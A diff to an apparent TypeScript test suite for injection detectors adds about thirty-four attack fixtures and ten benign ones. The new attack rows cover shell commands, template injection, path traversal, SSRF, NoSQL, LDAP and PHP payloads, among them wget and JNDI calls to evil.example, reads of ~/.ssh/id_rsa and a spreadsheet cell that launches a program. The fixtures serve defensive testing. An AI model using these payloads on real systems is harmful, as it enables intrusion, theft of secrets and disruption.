@@ -8,7 +8,12 @@ type Row = readonly [why: string, text: string, place?: Place]
 
 const attacks: Readonly<Record<string, readonly Row[]>> = {
   SqlInjection: [['a condition that always holds', "a' or 8=8--"]],
-  CrossSiteScripting: [['a script', '<script>ping()</script>']],
+  CrossSiteScripting: [
+    ['a script', '<script>ping()</script>'],
+    ['a function under another name', 'a=alert,a(9)'],
+    ['a text that is run', "Function('ping()')()"],
+    ['a function that a method calls', '[9].find(alert)'],
+  ],
   ShellCommand: [
     ['a command after a semicolon', '10.0.0.1; wget http://evil.example/x'],
     ['a short command after a pipe', '10.0.0.1|id'],
@@ -30,6 +35,13 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['Windows: a variable', 'type %SystemRoot%\\x'],
     ['PowerShell', ';Invoke-WebRequest evil.example'],
     ['a fork bomb', 'b(){ b|b& };b'],
+    ['a word expanded to nothing within the name', ';who$()ami'],
+    ['a number as argument in a substitution', '$(sleep 9)'],
+    ['a command alone in the line after a host', '10.0.0.9\nid'],
+    ['options that are letters', '; ps aux'],
+    ['a sum that a shell would show', 'x$((6*8))'],
+    ['a cell that starts a program', "=cmd|' /C calc'!A1"],
+    ['an option that runs another program', '-oProxyCommand=touch x'],
     ['Python runs it', "__import__('os').system('id')"],
   ],
   PathTraversal: [
@@ -41,6 +53,8 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['parameters that Tomcat drops', '/..;/..;/..;/manager'],
     ['an absolute path', '/etc/shadow'],
     ['a process', '/proc/self/environ'],
+    ['keys of a person', '~/.ssh/id_rsa'],
+    ['a text within its address', 'data:text/plain,x'],
     ['a drive', 'c:/windows/system32/drivers/etc/hosts'],
     ['a stream of PHP', 'php://filter/convert.base64-encode/resource=index'],
     ['a file URL', 'file:///srv/secret'],
@@ -72,7 +86,10 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['an IPv4 address in IPv6', 'http://[::ffff:7f00:1]/'],
     ['circled digits', 'http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/'],
     ['a name that resolves inside', 'http://10.0.0.1.nip.io/'],
+    ['a store behind the server', 'http://cache:6379/'],
+    ['with the name of its argument', 'url=http://10.1.2.3/'],
     ['credentials that look like the host', 'http://shop.example@evil.example/'],
+    ['a share of Windows', '\\\\evil.example\\a'],
     ['another protocol', 'gopher://shop.example:6379/_x'],
   ],
   Template: [
@@ -87,6 +104,13 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['Thymeleaf', '*{6*8}'],
     ['Smarty', "{system('id')}"],
     ['a statement of Jinja', '{% for q in x %}'],
+    ['the object of its settings', '{{ config }}'],
+    ['a filter that runs', "{{ 'id' | system }}"],
+    ['a key hidden in two', "{{ x['__gl'+'obals__'] }}"],
+    ['a constructor, in a language without calls', '{{ lookup . "constructor" }}'],
+    ['a key of the settings', '{{ settings.SECRET_KEY }}'],
+    ['backticks of Ruby', '<%= `id` %>'],
+    ['an object of Smarty', '{$smarty.version}'],
     ['Perl', "@{[system 'id']}"],
   ],
   XmlEntities: [
@@ -95,6 +119,7 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['an entity of entities', '<!DOCTYPE a [<!ENTITY b "&c;&c;">]>'],
     ['an external type', '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">'],
     ['UTF-7', '+ADwAIQ-ENTITY a SYSTEM +ACI-x+ACI-+AD4-'],
+    ['a style sheet from outside', '<xsl:include href="http://evil.example/x.xsl"/>'],
     ['XInclude', '<a xmlns:xi="http://www.w3.org/2001/XInclude"/>'],
   ],
   NoSql: [
@@ -103,12 +128,17 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['an operator in an object', '{"$ne": 1}'],
     ['without quotes', "{$regex: '^a'}"],
     ['a list of conditions', "', $or: [ {}, {'a':'a"],
+    ['a member added', "' }, $comment: 'x"],
+    ['a condition that always holds', "'||true//"],
+    ['a condition on the document', 'this.pw.length > 0'],
     ['code in a condition', "' || this.pw.length==8 || 'a'=='b"],
     ['a statement of the shell', 'db.users.drop()'],
   ],
   Ldap: [
     ['a filter closed and another opened', '*)(uid=*))(|(uid=*'],
     ['a condition added', 'eve)(|(pw=*)'],
+    ['parentheses closed and opened again', 'eve*)((|pw=*)'],
+    ['a filter that all meet', '(objectClass=*)'],
     ['a filter ended', 'eve)\0'],
     ['a filter of one\u2019s own', '(&(cn=a)(x=b))'],
   ],
@@ -118,6 +148,10 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['a superglobal', "$_GET['c']"],
     ['a call that tells', 'phpinfo()'],
     ['a call by a quoted name', "'system'('id')"],
+    ['a variable of its own overwritten', 'GLOBALS[a]', 'name'],
+    ['a digest shown', 'print(md5(9));'],
+    ['code from elsewhere', "include 'http://evil.example/x'"],
+    ['a call that runs', "exec('id')"],
     ['a call through a variable', '$f(1)'],
     ['a serialized object', 'O:3:"Foo":1:{s:1:"a";i:1;}'],
     ['a setting', 'allow_url_include=1'],
@@ -132,6 +166,7 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
   Node: [
     ['the prototype as a member', '__proto__', 'name'],
     ['the prototype in an argument', '__proto__[admin]', 'name'],
+    ['a module that reads files', "x(require('fs').readdirSync('.'))"],
     ['through the constructor', 'constructor.prototype.admin', 'name'],
     ['the main module', "process.mainModule.require('fs')"],
     ['a module that runs commands', "require('child_process').exec('id')"],
@@ -140,6 +175,7 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
   ],
   LogLookup: [
     ['a lookup that fetches', '${jndi:ldap://evil.example/a}'],
+    ['a lookup of the machine', '${sys:user.name}'],
     ['its name in lower-case lookups', '${${lower:J}ndi:ldap://evil.example/a}'],
     ['its letters as defaults', '${${::-j}${::-n}${::-d}${::-i}:dns://evil.example}'],
     ['cut off', '${jndi:rmi://evil.example'],
@@ -156,6 +192,19 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
 }
 
 const benign: readonly Row[] = [
+  [
+    'a command with pipes quoted in prose',
+    'To find them, run `ls -la /srv/log | grep error | tail -n 9` there',
+  ],
+  ['an exception in a log', '09:00 ERROR [main] - java.lang.IllegalStateException: closed'],
+  ['a frame of a trace', 'x\n at java.util.List.of(List.java:9)'],
+  ['a document of a person', 'C:\\Users\\Anna\\Documents\\report.docx'],
+  ['what browsers send of an upload', 'C:\\fakepath\\photo.jpg'],
+  ['a message quoted', 'Subject: a meeting\nFrom: jo@example.org\nTo: al@example.org'],
+  ['words with numbers after semicolons', 'sort by date; find the best; top 10'],
+  ['a picture in an address', 'data:image/png;base64,iVBORw0KGgo='],
+  ['a statement that is a sentence', 'delete from your memory'],
+  ['a page that begins with a word of SQL', 'catalogue/light/select-9'],
   ['prose after a semicolon', 'We met; find us at the station; time is short'],
   ['names and an ampersand', 'Simon & Cat Head of Sales'],
   ['commands that are words', 'cat food, curl up, echo chamber, sort of'],
@@ -237,5 +286,5 @@ test('base64 hides nothing, whether in a value or in the last segment of a path'
 test('every detector has rows, and every row ran', () => {
   assert.deepEqual(Object.keys(attacks).sort(), detectors.map(({ name }) => name).sort())
   const rows = Object.values(attacks).flat().length
-  assert.deepEqual([rows, benign.length], [116, 55])
+  assert.deepEqual([rows, benign.length], [150, 65])
 })
